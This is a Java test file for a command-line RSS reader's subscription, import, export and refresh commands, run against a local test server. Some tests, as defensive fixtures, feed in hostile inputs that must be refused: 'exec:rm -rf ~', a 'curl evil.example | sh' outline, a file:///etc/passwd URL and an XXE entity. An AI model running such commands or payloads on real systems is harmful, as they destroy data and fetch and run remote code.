package dev.tidings.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** feeds, import, export and refresh against a urls file in a temporary HOME and a server on 127.0.0.1. */
class SubscriptionsCliTest {
    @TempDir
    Path home;
    HttpServer server;
    String base;

    @BeforeEach
    void start() throws IOException {
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/a.xml", ex -> {
            if ("\"a1\"".equals(ex.getRequestHeaders().getFirst("If-None-Match"))) {
                ex.sendResponseHeaders(304, -1);
                ex.close();
                return;
            }
            ex.getResponseHeaders().set("ETag", "\"a1\"");
            send(ex, 200, rss("Alpha News", 2));
        });
        server.createContext("/b.xml", ex -> send(ex, 200, rss("Beta Blog", 1)));
        server.createContext("/new.xml", ex -> send(ex, 200, rss("Moved Feed", 3)));
        server.createContext("/old.xml", ex -> {
            ex.getResponseHeaders().set("Location", base + "/new.xml");
            ex.sendResponseHeaders(301, -1);
            ex.close();
        });
        server.createContext("/missing.xml", ex -> send(ex, 404, "<p>no</p>"));
        server.createContext("/gone.xml", ex -> send(ex, 410, "<p>gone</p>"));
        server.start();
        base = "http://127.0.0.1:" + server.getAddress().getPort();
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    private static String rss(String title, int items) {
        StringBuilder sb = new StringBuilder("<rss version='2.0'><channel><title>" + title + "</title>");
        for (int i = 1; i <= items; i++) {
            sb.append("<item><title>Story ").append(i).append("</title><guid>").append(title).append(i)
                    .append("</guid></item>");
        }
        return sb.append("</channel></rss>").toString();
    }

    private static void send(HttpExchange ex, int status, String body) throws IOException {
        byte[] b = body.getBytes(StandardCharsets.UTF_8);
        ex.getResponseHeaders().set("Content-Type", status == 200 ? "application/rss+xml" : "text/html");
        ex.sendResponseHeaders(status, b.length);
        try (OutputStream out = ex.getResponseBody()) {
            out.write(b);
        }
    }

    Map<String, String> env(Path h) {
        return Map.of("HOME", h.toString(), "XDG_CONFIG_HOME", h.resolve("config").toString(),
                "XDG_CACHE_HOME", h.resolve("cache").toString(), "XDG_DATA_HOME", h.resolve("data").toString());
    }

    Cli run(String... args) {
        return Cli.runWith(env(home), "", false, args);
    }

    Path urls() {
        return home.resolve("config/tidings/urls");
    }

    @Test
    void addListRenameRemove() throws IOException {
        Cli empty = run("feeds");
        assertThat(empty.code).isZero();
        assertThat(empty.out).startsWith("No subscriptions yet");
        Cli add = run("feeds", "add", base + "/a.xml", "--name", "Alpha", "--tag", "news", "--tag", "daily");
        assertThat(add.code).as(add.toString()).isZero();
        assertThat(add.out).isEqualTo("Subscribed to " + base + "/a.xml\n");
        assertThat(run("feeds", "add", base + "/b.xml").code).isZero();
        Cli dup = run("feeds", "add", base + "/a.xml/");
        assertThat(dup.code).isEqualTo(ExitCodes.USAGE);
        assertThat(dup.err).startsWith("tidings: already subscribed").hasLineCount(1);

        Cli list = run("feeds", "list");
        assertThat(list.out.lines()).containsExactly(
                "Alpha  " + base + "/a.xml  [news, daily]  never fetched", base + "/b.xml  never fetched");
        assertThat(Files.readString(urls())).contains(base + "/a.xml news daily ~Alpha");

        assertThat(run("feeds", "rename", base + "/b.xml", "Beta").code).isZero();
        Cli unknown = run("feeds", "rename", base + "/zzz.xml", "Z");
        assertThat(unknown.code).isEqualTo(ExitCodes.USAGE);
        assertThat(unknown.err).startsWith("tidings: not subscribed: ");
        assertThat(run("feeds", "remove", base + "/a.xml").code).isZero();
        Cli gone = run("feeds", "remove", base + "/a.xml");
        assertThat(gone.code).isEqualTo(ExitCodes.USAGE);
        assertThat(gone.err).startsWith("tidings: not subscribed: ");

        Cli tsv = run("feeds", "list", "--format", "tsv");
        assertThat(tsv.out).isEqualTo(base + "/b.xml\tBeta\t\t\t\t\n");
        JsonNode json = new ObjectMapper().readTree(run("feeds", "list", "--format", "json").out);
        assertThat(json.size()).isEqualTo(1);
        assertThat(json.get(0).get("name").asText()).isEqualTo("Beta");
        assertThat(json.get(0).get("fetched").isNull()).isTrue();
    }

    @Test
    void addRefusesWhatIsNotHttpAndWritesNothing() {
        Cli ftp = run("feeds", "add", "ftp://x");
        assertThat(ftp.code).isEqualTo(ExitCodes.USAGE);
        assertThat(ftp.err).isEqualTo("tidings: 'ftp://x' is not an http(s) URL\n");
        for (String hostile : new String[] {"exec:rm -rf ~", "file:///etc/passwd", "filter:x:" + base + "/a.xml"}) {
            Cli c = run("feeds", "add", hostile);
            assertThat(c.code).as(c.toString()).isEqualTo(ExitCodes.USAGE);
            assertThat(c.err).contains("is not an http(s) URL").hasLineCount(1);
            assertThat(c.out).isEmpty();
        }
        assertThat(Files.exists(urls())).isFalse();
    }

    @Test
    void refusedLinesInTheFileAreWarningsAndListNeverRewritesIt() throws IOException {
        Files.createDirectories(urls().getParent());
        String text = "# mine\nexec:rm -rf ~\n" + base + "/a.xml tech\n\"filter:evil.sh:" + base + "/b.xml\"\n";
        Files.writeString(urls(), text);
        Cli list = run("feeds", "list");
        assertThat(list.code).isZero();
        assertThat(list.out.lines()).containsExactly(base + "/a.xml  [tech]  never fetched");
        assertThat(list.err.lines()).hasSize(2).allMatch(l -> l.startsWith("tidings: warning: urls:"));
        assertThat(list.err).contains("urls:2: exec: sources are never run").contains("urls:4: filter:");
        assertThat(Files.readString(urls())).isEqualTo(text);
        assertThat(run("export", "--format", "urls").out).contains(base + "/a.xml tech").doesNotContain("exec:");
    }

    @Test
    void importsOpmlRefusingHostileOutlines() throws IOException {
        run("feeds", "add", base + "/b.xml");
        Path opml = home.resolve("feeds.opml");
        Files.writeString(opml, "<?xml version='1.0'?>\n<opml version='1.0'><head><title>x</title></head><body>\n"
                + "<outline text='Tech'>\n"
                + "  <outline text='Alpha' type='rss' xmlUrl='" + base + "/a.xml'/>\n"
                + "  <outline text='Pwn' type='rss' xmlUrl='exec:curl evil.example | sh'/>\n"
                + "</outline>\n"
                + "<outline text='Beta' xmlUrl='" + base + "/b.xml'/>\n"
                + "<outline text='Gamma' xmlUrl='" + base + "/new.xml'/>\n"
                + "</body></opml>\n");
        Cli imp = run("import", opml.toString());
        assertThat(imp.code).as(imp.toString()).isZero();
        assertThat(imp.out).isEqualTo("Imported 2 feeds (1 already subscribed, 1 line refused)\n");
        assertThat(imp.err).isEqualTo("tidings: warning: feeds.opml:5: exec: sources are never run by Tidings;"
                + " outline skipped\n");
        assertThat(Files.readString(urls())).doesNotContain("exec:").doesNotContain("evil");
        assertThat(run("feeds").out.lines()).containsExactly(base + "/b.xml  never fetched",
                "Alpha  " + base + "/a.xml  [Tech]  never fetched", "Gamma  " + base + "/new.xml  never fetched");
        assertThat(run("import", opml.toString()).out).isEqualTo("Imported 0 feeds (3 already subscribed, 1 line refused)\n");
    }

    @Test
    void importsANewsboatUrlsFile() throws IOException {
        Path file = home.resolve("newsboat-urls");
        Files.writeString(file, "# newsboat\n" + base + "/a.xml news \"~Alpha News\" !hidden\n"
                + "\"exec:~/bin/scrape.sh\" scraped\n" + "query:Unread:unread = \"yes\"\n" + base + "/b.xml\n");
        Cli imp = run("import", file.toString());
        assertThat(imp.code).as(imp.toString()).isZero();
        assertThat(imp.out).isEqualTo("Imported 2 feeds and 1 query feed (0 already subscribed, 1 line refused)\n");
        assertThat(imp.err.lines()).hasSize(1).allMatch(l -> l.startsWith("tidings: warning: newsboat-urls:"));
        assertThat(run("feeds").out.lines()).containsExactly(
                "Alpha News  " + base + "/a.xml  [news, hidden]  never fetched", base + "/b.xml  never fetched",
                // query feeds are kept (issue #13); unquoted, the line splits as newsboat splits it: rule, then tags
                "Unread  query: unread  [=, yes]");
    }

    @Test
    void importErrors() throws IOException {
        Cli missing = run("import", home.resolve("nope.opml").toString());
        assertThat(missing.code).isEqualTo(ExitCodes.UNREADABLE);
        assertThat(missing.err).startsWith("tidings: cannot read ").endsWith(": no such file\n");
        Path bad = home.resolve("bad.opml");
        Files.writeString(bad, "<opml version='2.0'><body><outline xmlUrl='" + base + "/a.xml'></body>");
        Cli invalid = run("import", bad.toString());
        assertThat(invalid.code).isEqualTo(ExitCodes.INVALID_FEED);
        assertThat(invalid.err).startsWith("tidings: bad.opml:").hasLineCount(1);
        Path xxe = home.resolve("xxe.opml");
        Files.writeString(xxe, "<?xml version='1.0'?><!DOCTYPE opml [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
                + "<opml version='2.0'><body><outline text='&x;' xmlUrl='" + base + "/a.xml'/></body></opml>");
        assertThat(run("import", xxe.toString()).code).isEqualTo(ExitCodes.INVALID_FEED);
        assertThat(Files.exists(urls())).isFalse();
    }

    @Test
    void exportedOpmlImportsBackToTheSameList() throws IOException {
        run("feeds", "add", base + "/a.xml", "--name", "Alpha", "--tag", "news", "--tag", "daily");
        run("feeds", "add", base + "/b.xml", "--tag", "news");
        run("feeds", "add", base + "/new.xml", "--name", "Gamma \"quoted\" & <tagged>");
        Cli export = run("export");
        assertThat(export.code).isZero();
        assertThat(export.out).startsWith("<?xml").contains("<opml version=\"2.0\">");
        Path opml = home.resolve("out.opml");
        Files.writeString(opml, export.out);

        Path other = home.resolve("other");
        Cli imp = Cli.runWith(env(other), "", false, "import", opml.toString());
        assertThat(imp.code).as(imp.toString()).isZero();
        assertThat(imp.out).startsWith("Imported 3 feeds (0 already subscribed, 0 lines refused)");
        assertThat(Cli.runWith(env(other), "", false, "feeds").out).isEqualTo(run("feeds").out);
        assertThat(Cli.runWith(env(other), "", false, "export", "--format", "urls").out)
                .isEqualTo(run("export", "--format", "urls").out);
        // stdin works too
        Cli piped = Cli.runWith(env(home.resolve("third")), export.out, false, "import", "-");
        assertThat(piped.out).startsWith("Imported 3 feeds");
    }

    @Test
    void refreshCachesReportsAndFollowsMoves() throws IOException {
        assertThat(run("refresh").out).isEqualTo("No subscriptions yet: add one with 'tidings feeds add URL'"
                + " or 'tidings import FILE'\n");
        run("feeds", "add", base + "/a.xml", "--name", "Alpha");
        run("feeds", "add", base + "/old.xml", "--name", "Moved", "--tag", "t");
        run("feeds", "add", base + "/missing.xml");
        run("feeds", "add", base + "/b.xml");

        Cli r = run("refresh");
        assertThat(r.code).as(r.toString()).isEqualTo(ExitCodes.UNREADABLE);
        assertThat(r.out.lines()).containsExactly(
                "Refreshed 4 feeds: 2 updated, 0 unchanged, 1 moved, 0 gone, 1 failed",
                "moved: " + base + "/old.xml -> " + base + "/new.xml (subscription updated)");
        assertThat(r.err).startsWith("tidings: " + base + "/missing.xml: ").contains("404").hasLineCount(1)
                .doesNotContain("\r");
        String file = Files.readString(urls());
        assertThat(file).contains(base + "/new.xml t ~Moved").doesNotContain("old.xml");

        Cli list = run("feeds", "list");
        assertThat(list.out.lines()).hasSize(4);
        assertThat(list.out.lines().filter(l -> l.contains("updated ")).count()).isEqualTo(3);
        assertThat(list.out).containsPattern("Alpha  " + base + "/a.xml  updated \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d\n")
                .contains("Moved  " + base + "/new.xml  [t]  updated ");
        assertThat(list.out.lines().filter(l -> l.contains("/missing.xml")).findFirst().orElseThrow())
                .contains("never fetched  ! ").contains("404");
        assertThat(Files.readString(urls())).isEqualTo(file);

        // the others are cached: the ETag makes the second refresh of a.xml a 304
        Cli again = run("refresh");
        assertThat(again.out.lines().findFirst().orElseThrow())
                .isEqualTo("Refreshed 4 feeds: 2 updated, 1 unchanged, 0 moved, 0 gone, 1 failed");
        assertThat(again.code).isEqualTo(ExitCodes.UNREADABLE);

        run("feeds", "remove", base + "/missing.xml");
        run("feeds", "add", base + "/gone.xml");
        Cli gone = run("refresh");
        assertThat(gone.code).as(gone.toString()).isZero();
        assertThat(gone.out).startsWith("Refreshed 4 feeds: 2 updated, 1 unchanged, 0 moved, 1 gone, 0 failed\n")
                .contains("gone: " + base + "/gone.xml");
        assertThat(run("feeds").out).contains(base + "/gone.xml  never fetched  ! gone");
    }

    @Test
    void listAndDumpReadTheCacheAfterARefresh() throws IOException {
        run("feeds", "add", base + "/a.xml", "--name", "Alpha");
        run("feeds", "add", base + "/b.xml");
        assertThat(run("refresh").code).isZero();
        server.stop(0); // from here on only the cache answers

        Cli list = run("list");
        assertThat(list.code).as(list.toString()).isZero();
        assertThat(list.out.lines()).hasSize(3).allMatch(l -> l.contains("Story "));
        Cli dump = run("dump", "--item", "2");
        assertThat(dump.code).as(dump.toString()).isZero();
        assertThat(dump.err).isEmpty();
        String second = list.out.lines().skip(1).findFirst().orElseThrow();
        String title = second.replaceAll("^\\s*2\\s+\\S+\\s+", "").replaceAll("\\s+—.*$", "").strip();
        assertThat(dump.out).startsWith(title).contains("Story ");
        assertThat(run("dump", "--id", "Beta Blog1").out).startsWith("Story 1\nBeta Blog");
        Cli all = run("dump");
        assertThat(all.code).isZero();
        assertThat(all.out).contains("Alpha").contains("Beta Blog");
    }

    @Test
    void progressLine() {
        assertThat(RefreshCommand.progressLine(0, 200)).isEqualTo("refreshing 0/200 [....................]");
        assertThat(RefreshCommand.progressLine(12, 200)).isEqualTo("refreshing 12/200 [#...................]");
        assertThat(RefreshCommand.progressLine(200, 200)).isEqualTo("refreshing 200/200 [####################]");
    }
}
